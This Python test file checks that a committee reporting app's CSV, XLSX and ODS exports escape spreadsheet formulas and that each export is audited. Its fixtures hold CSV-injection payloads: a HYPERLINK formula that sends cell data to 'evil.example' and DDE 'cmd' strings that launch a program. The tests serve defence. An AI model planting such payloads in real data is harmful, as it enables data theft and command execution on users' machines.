"""Issue 13, findings 6 and 11: spreadsheets never carry a live formula; every export is audited."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from models import AuditEvent, crypto
from services import imports
from services.exports import FORMULA_TRIGGERS, safe_cell
from tests import factories
from tests.conftest import DATA_KEY
from tests.services.test_stats import build_quarter_world

EVIL_LANDLORD = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")'
EVIL_ASSOCIATION = "+cmd|' /C calc'!A0"
EVIL_ACTION = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _data_key():
    crypto.configure(DATA_KEY)


@pytest.fixture
def member(db, login_as):
    committee = factories.create_organisation(db, "committee", departments=["59", "62"])
    return login_as("committee", organisation=committee)


@pytest.fixture
def evil_world(db, client, member):
    """The usual quarter, with organisations named as formulas and a follow-up action typed as one."""
    world, _ = build_quarter_world(db)
    world.l59.name = EVIL_LANDLORD
    world.a1.name = EVIL_ASSOCIATION
    world.a2.name = "\t=1+1"
    db.commit()
    response = client.post("/comite/actions", data={"quarter": "2026-Q4", "departments": "59,62",
                                                    "text": EVIL_ACTION, "owner": str(world.l59.id)})
    assert response.status_code == 302
    return world


def _live(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    stripped = text.lstrip(" \u00a0")
    plain_number = re.fullmatch(r"-?\d+(,\d+)?", stripped) is not None
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS and not plain_number


def _formulas(content: bytes) -> list[str]:
    """Every formula cell of a workbook, read back as a spreadsheet would."""
    found = []
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and _live(c.value)):
                    found.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    # And in the file itself: no <f> element anywhere.
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name):
                found.append(name)
    return found


def test_committee_xlsx_report_has_no_live_formula(client, evil_world):
    response = client.get("/comite/rapport.xlsx?quarter=2026-Q4&departments=59,62")
    assert response.status_code == 200
    assert _formulas(response.data) == []
    text = {str(c.value) for ws in load_workbook(io.BytesIO(response.data)).worksheets
            for row in ws.iter_rows() for c in row if c.value is not None}
    # The names and the action are still there, readable, marked as text.
    assert "'" + EVIL_LANDLORD in text and "'" + EVIL_ACTION in text


def test_committee_csv_report_escapes_formulas(client, evil_world):
    response = client.get("/comite/rapport.csv?quarter=2026-Q4&departments=59,62")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    fields = [f for r in rows for f in r]
    assert [f for f in fields if _live(f)] == []
    assert "'" + EVIL_LANDLORD in fields and "'" + EVIL_ASSOCIATION in fields


def test_generic_writers_escape_formulas():
    rows = [[EVIL_LANDLORD, "-2+3", "\r=1", "＝1+1", -3, "-12,5", "12,5 %", "Asso — Lille"]]
    out = list(csv.reader(io.StringIO(imports.write_csv(["=h", "b"], rows).decode("utf-8-sig")), delimiter=";"))
    assert out[0] == ["'=h", "b"]
    assert out[1] == ["'" + EVIL_LANDLORD, "'-2+3", "'\r=1", "'＝1+1", "-3", "-12,5", "12,5 %", "Asso — Lille"]
    assert _formulas(imports.write_xlsx(["=h"], rows, notes=["=note"])) == []
    assert safe_cell(None) is None and safe_cell(4) == 4 and safe_cell("") == ""


def test_committee_ods_report_has_no_formula_and_keeps_the_names(client, evil_world):
    response = client.get("/comite/rapport.ods?quarter=2026-Q4&departments=59,62")
    assert response.status_code == 200 and response.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    content = zipfile.ZipFile(io.BytesIO(response.data)).read("content.xml")
    assert b"table:formula" not in content
    text = content.decode()
    assert "'" + EVIL_LANDLORD in html.unescape(text) and "'" + EVIL_ACTION in html.unescape(text)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods", "pdf"])
def test_every_committee_export_writes_an_audit_row(client, db, member, fmt):
    build_quarter_world(db)
    db.commit()
    assert client.get(f"/comite/rapport.{fmt}?quarter=2026-Q4&departments=59,62").status_code == 200
    events = db.scalars(sa.select(AuditEvent).where(AuditEvent.action == "committee.report.export")).all()
    assert [(e.actor_id, e.object_type, e.object_id) for e in events] == [
        (member.id, "report", f"2026-Q4:{fmt}:59,62")]


def test_stats_api_download_writes_an_audit_row(client, db, login_as):
    committee = factories.create_organisation(db, "committee", departments=["59", "62"])
    user = login_as("committee", organisation=committee)
    assert client.get("/api/v1/stats?quarter=2026-Q4&departments=59").status_code == 200
    events = db.scalars(sa.select(AuditEvent).where(AuditEvent.action == "stats.export")).all()
    assert [(e.actor_id, e.object_id) for e in events] == [(user.id, "2026-Q4:json:59")]
